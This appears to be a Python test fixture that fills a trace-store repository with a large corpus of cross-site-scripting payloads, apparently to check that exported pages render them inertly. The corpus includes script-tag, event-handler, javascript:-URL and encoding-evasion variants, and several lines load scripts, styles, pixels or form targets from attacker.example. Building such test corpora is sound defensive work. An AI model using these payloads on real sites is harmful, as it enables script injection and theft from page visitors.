"""Texts that would like to run in a page that shows them, and a repository that holds each of them everywhere."""

from __future__ import annotations

from pathlib import Path

from tests.exporters.support.sessions import ATTACKS
from trace_store import Data, Image, Message, Opaque, Reasoning, Text, ToolCall, ToolResult
from trace_store.errors import TraceError
from trace_store.repo.repository import Repo

RUN = "window.pwned=1"
"""What an attack runs, where it can."""

CORPUS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\t>{RUN}</script\t>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//attacker.example/x.js></script>",
    "<script src=data:text/javascript,window.pwned=1></script>",
    "<script type=module>import '//attacker.example/x.js'</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\t=\t{RUN}//",
    f"<IMG SRC=x OnErRoR={RUN}>",
    "<img src=https://attacker.example/pixel.png>",
    "<img srcset='https://attacker.example/1 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x">',
    f"<math><mtext></table><img src=x onerror={RUN}></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<iframe src=//attacker.example></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} id=clobber>click</a>",
    f"<a href='java\nscript:{RUN}'>click</a>",
    f'<a href="&#106;avascript:{RUN}">click</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    f"<a href=vbscript:{RUN}>click</a>",
    f"[x](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    "![x](https://attacker.example/pixel.png)",
    f"<javascript:{RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"**<img src=x onerror={RUN}>**",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover={RUN} `",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</pre></details></article></main><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    "<style>@import '//attacker.example/x.css';</style>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<base href=//attacker.example/>",
    "<form action=//attacker.example><button>send</button></form>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    "<template shadowrootmode=open><slot></slot></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "<form name=main><input name=dataset></form>",
    f"\u003cimg src=x onerror={RUN}\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\x00<script\x00>{RUN}</script>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    "\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    'event: moved\ndata: {"ref":"refs/heads/main"}\n\n',
    *ATTACKS,
)


def hostile_repository(folder: Path, corpus: tuple[str, ...] = CORPUS) -> Repo:
    """Return a repository in which each text stands in each field that a page shows."""
    repo = Repo.init(folder, author="<img src=x onerror=window.pwned=1>", secrets="off")
    repo.set_tools(
        [{"name": text, "description": text, "input_schema": {"enum": [text]}} for text in corpus]
    )
    for number, text in enumerate(corpus):
        short = text[:400].encode("utf-8", "replace").decode().replace("\0", " ")
        with repo.batch(short) as batch:
            batch.append("user", text, name=short, id=short, kind="artifact")
            batch.append(
                "assistant",
                [
                    Reasoning(text, signature=short),
                    Text(text),
                    ToolCall(f"{number}{short}", short, {short: text, "list": [text]}),
                    ToolCall(f"t{number}{short}", short, text, format="text"),
                    Opaque(short, text.encode("utf-8", "surrogatepass")),
                    Data("x.y", {"text": text}),
                ],
                name=short,
                model=short,
                id=short,
            )
            result = [Text(text), Image(url=short), Image(short, text.encode("utf-8", "replace"))]
            batch.append("tool", [ToolResult(f"{number}{short}", result, is_error=True)])
        _said_elsewhere(repo, number, short)
    _run(repo, corpus)
    return repo


def _run(repo: Repo, corpus: tuple[str, ...]) -> None:
    """Put each text into each field of a step, in runs that have ended."""
    for part in range(0, len(corpus), 50):
        with repo.runs.start(corpus[part], id=f"run-{part}", agent="x") as run:
            for text in corpus[part : part + 50]:
                with run.step("tool_call", text, model=text[:80]) as step:
                    step.source(text, f"https://example.org/{text}", text)
                    step.source(text, text)
                    step.substep(text).complete(text)
                    step.complete(text, tokens={text: 1})
                step.retry().fail(text)


def _said_elsewhere(repo: Repo, number: int, text: str) -> None:
    """Put a text into the fields outside of messages; those that refuse it need no test."""
    line = repo.line(f"sessions/x/s{number}")
    first = line.append("user", text).addresses[0]
    line.append("assistant", "An answer")
    repo.forks.create(f"fork{number}", start=line.writer.store.refs.head().ref or "")
    repo.line(f"fork{number}").append("assistant", text)
    line.edit(first, f"{text} reworded")
    gone = line.append("user", text).addresses[0]
    line.remove(gone)
    attempts = (
        lambda: line.annotate(first, labels=[text]),
        lambda: line.replace([first], [Message("user", text)], reason=text),
        lambda: repo.sessions.rename(line.writer.store.refs.head().ref or "", text),
        lambda: repo.checkpoints.save(f"c{number}", ref=f"sessions/x/s{number}", reason=text),
        lambda: repo.checkpoints.save(text),
        lambda: repo.trajectories.start(text),
        lambda: repo.trajectories.decide(text, text, reasoning=text, alternatives=[text]),
        lambda: repo.trajectories.record("note", text),
        lambda: repo.trajectories.complete({"summary": text, "approach": text}),
        lambda: repo.trajectories.abandon(text),
    )
    for attempt in attempts:
        try:
            attempt()
        except (TraceError, TypeError, ValueError, AttributeError):
            continue
